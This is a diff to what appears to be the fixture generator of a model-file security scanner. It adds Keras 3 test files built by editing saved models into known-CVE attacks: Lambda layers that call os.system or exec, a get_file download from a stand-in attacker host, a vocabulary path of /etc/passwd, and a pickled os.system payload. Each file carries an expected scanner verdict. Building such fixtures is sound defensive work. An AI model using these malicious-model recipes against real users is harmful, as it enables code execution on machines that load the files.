@@ -40,6 +40,8 @@ def container_of(rel):
         return "chat-template"
     if rel.endswith(".py"):
         return "not-a-model:text"
+    if rel.startswith("keras/") and rel.endswith(".config.json"):
+        return "keras-config"
     if rel.startswith("hf/"):
         return "hf-config" if "remote_code" in rel else "not-a-model:json"
     if rel.endswith(".json"):
@@ -47,7 +49,7 @@ def container_of(rel):
     if rel.startswith("ggml/"):
         with open(os.path.join(ROOT, rel), "rb") as f:
             return {b"lmgg": "ggml", b"fmgg": "ggmf", b"tjgg": "ggjt", b"algg": "ggla"}[f.read(4)]
-    if rel.startswith("skops/"):
+    if rel.startswith("skops/") or rel.endswith(".keras"):
         return "zip"
     return rel.rsplit(".", 1)[1]
 
@@ -731,6 +733,131 @@ def hf_fixtures():
            {}, "suspicious", ["PS978"])
 
 
+# --------------------------------------------------------------------------------------------
+# Keras 3 (.keras zip: config.json, metadata.json, model.weights.h5), saved by keras with the
+# torch backend; attacks are real saves with config.json edited
+# --------------------------------------------------------------------------------------------
+
+def keras_fixtures():
+    import zipfile
+
+    os.environ.setdefault("KERAS_BACKEND", "torch")
+    import keras
+    import torch
+
+    shutil.rmtree(os.path.join(ROOT, "keras"), ignore_errors=True)
+
+    def save(model, name):
+        p = path("keras", name + ".keras")
+        model.save(p)
+        return p
+
+    def config_of(p):
+        with zipfile.ZipFile(p) as z:
+            return json.loads(z.read("config.json"))
+
+    def rewrite(src, name, edit):
+        dst = path("keras", name + ".keras")
+        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
+            for item in zin.infolist():
+                data = zin.read(item.filename)
+                if item.filename == "config.json":
+                    data = json.dumps(edit(json.loads(data))).encode()
+                zout.writestr(item, data)
+        return dst
+
+    def also_config(p, name, verdict, rules):
+        """The config.json of a save on its own: judged without the HDF5 weights beside it."""
+        with open(path("keras", name + ".config.json"), "w") as f:
+            json.dump(config_of(p), f)
+        expect(f"keras/{name}.config.json", verdict, rules)
+
+    seq = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"),
+                            keras.layers.Lambda(keras.activations.relu), keras.layers.Dense(2, activation="softmax")])
+    seq.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
+    base = save(seq, "sequential_dense_lambda_relu")
+    # The weights are HDF5, which is not read yet: a .keras file is suspicious for that alone.
+    expect("keras/sequential_dense_lambda_relu.keras", "suspicious", ["PS912"])
+    also_config(base, "sequential_dense_lambda_relu", "clean", [])
+
+    inp = keras.Input((8, 8, 3))
+    x = keras.layers.Conv2D(4, 3, padding="same")(inp)
+    x = keras.layers.BatchNormalization()(x)
+    x = keras.layers.GlobalAveragePooling2D()(x)
+    out = keras.layers.Dense(3)(x)
+    func = save(keras.Model(inp, out), "functional_conv_bn")
+    expect("keras/functional_conv_bn.keras", "suspicious", ["PS912"])
+    also_config(func, "functional_conv_bn", "clean", [])
+
+    lam = save(keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2)]), "lambda_bytecode")
+    expect("keras/lambda_bytecode.keras", "suspicious", ["PS912", "PS980"])
+    also_config(lam, "lambda_bytecode", "suspicious", ["PS980"])
+
+    def lambda_layer(cfg):
+        return next(l for l in cfg["config"]["layers"] if l["class_name"] == "Lambda")
+
+    def as_function(module, name, args=None):
+        def edit(cfg):
+            layer = lambda_layer(cfg)
+            layer["config"]["function"] = {"module": module, "class_name": name, "config": name, "registered_name": name}
+            if args:
+                layer["config"]["arguments"] = args
+            return cfg
+        return edit
+
+    # CVE-2025-1550: any importable callable as a Lambda function (Keras 3.0-3.8 imported it).
+    p = rewrite(base, "cve_2025_1550_os_system", as_function("os", "system", {"command": "id"}))
+    expect("keras/cve_2025_1550_os_system.keras", "dangerous", ["PS981", "PS912"])
+    also_config(p, "cve_2025_1550_os_system", "dangerous", ["PS981"])
+
+    def builtins_exec(cfg):
+        lambda_layer(cfg)["config"]["function"] = {"module": "builtins", "class_name": "function", "config": "exec",
+                                                   "registered_name": "function"}
+        return cfg
+
+    p = rewrite(base, "builtins_exec_function", builtins_exec)
+    expect("keras/builtins_exec_function.keras", "dangerous", ["PS981", "PS912"])
+    # CVE-2025-8747: keras.utils.get_file downloads and writes; CVE-2025-9906: safe mode turned off.
+    p = rewrite(base, "cve_2025_8747_get_file", as_function("keras.utils", "get_file",
+                                                            {"origin": "http://attacker.invalid/x", "cache_dir": "/tmp"}))
+    expect("keras/cve_2025_8747_get_file.keras", "dangerous", ["PS981", "PS912"])
+    p = rewrite(base, "cve_2025_9906_enable_unsafe", as_function("keras.config", "enable_unsafe_deserialization"))
+    expect("keras/cve_2025_9906_enable_unsafe.keras", "dangerous", ["PS981", "PS912"])
+
+    # CVE-2025-12058: a lookup vocabulary read from a path.
+    def lookup(cfg):
+        cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "StringLookup",
+                                        "config": {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1},
+                                        "registered_name": None})
+        return cfg
+
+    rewrite(base, "cve_2025_12058_vocabulary_path", lookup)
+    expect("keras/cve_2025_12058_vocabulary_path.keras", "dangerous", ["PS983", "PS912"])
+
+    # CVE-2025-49655: TorchModuleWrapper holds base64 of torch.save output; here with a payload
+    # pickled by hand (os.system('echo pwned'): never run, only written).
+    import base64
+    import io
+    import pickle
+
+    class Payload:
+        def __reduce__(self):
+            return (os.system, ("echo pwned",))
+
+    buf = io.BytesIO()
+    torch.save({"module": Payload()}, buf)
+
+    def torch_wrapper(cfg):
+        cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "TorchModuleWrapper",
+                                        "config": {"name": "torch_module_wrapper", "module": base64.b64encode(buf.getvalue()).decode()},
+                                        "registered_name": "TorchModuleWrapper"})
+        return cfg
+
+    rewrite(base, "cve_2025_49655_torch_module_wrapper", torch_wrapper)
+    expect("keras/cve_2025_49655_torch_module_wrapper.keras", "dangerous", ["PS101", "PS982", "PS912"])
+    del pickle
+
+
 def main():
     for sub in ["templates/made", "templates/attack", "templates/suspicious"]:
         shutil.rmtree(os.path.join(ROOT, sub), ignore_errors=True)
@@ -740,6 +867,7 @@ def main():
     ggml_fixtures()
     skops_fixtures()
     hf_fixtures()
+    keras_fixtures()
     for extra in sys.argv[1:]:
         print("unknown argument", extra)
     with open(os.path.join(ROOT, "manifest.json"), "w") as f:
